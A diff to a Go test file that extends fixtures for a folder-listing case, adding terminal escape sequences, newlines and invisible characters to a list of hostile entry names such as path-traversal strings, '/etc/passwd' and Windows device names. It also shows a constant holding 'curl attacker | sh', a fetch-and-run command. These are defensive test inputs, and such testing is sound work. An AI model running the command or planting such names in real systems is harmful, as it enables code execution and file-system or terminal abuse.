@@ -33,7 +33,7 @@ var nameCases = []Case{
 		},
 	},
 	{
-		Name: "inner-names", About: "lists a folder whose entries' names lead out of it, are devices, hold separators, or differ in case only",
+		Name: "inner-names", About: "lists a folder whose entries' names lead out of it, are devices, hold separators or characters that are not visible, or differ in case only",
 		routes: func(*fakevm.VM) routes {
 			return routes{
 				"GET " + contract.PathStat:      statByListing,
@@ -51,6 +51,7 @@ const evil = "curl attacker | sh\n"
 // EvilNames are the entries of the folder that case inner-names lists.
 var EvilNames = []string{
 	"../../escaped", "..", ".", "", "/etc/passwd", `..\..\escaped`, `C:\escaped`, "CON", "con.txt", "a/b", `a\b`, "A", "a", "name\x00", "trailing. ", "\u202egnp.exe",
+	"\x1b[2Jx", "esc\x1b]0;HA\ad", "new\nline", "c1\u009b2J", "zero\u200bwidth", `\xe2\x80\xaetxt.exe`,
 }
 
 // lieOfPath answers stat: the file itself by its path, and folder, where there is one, for
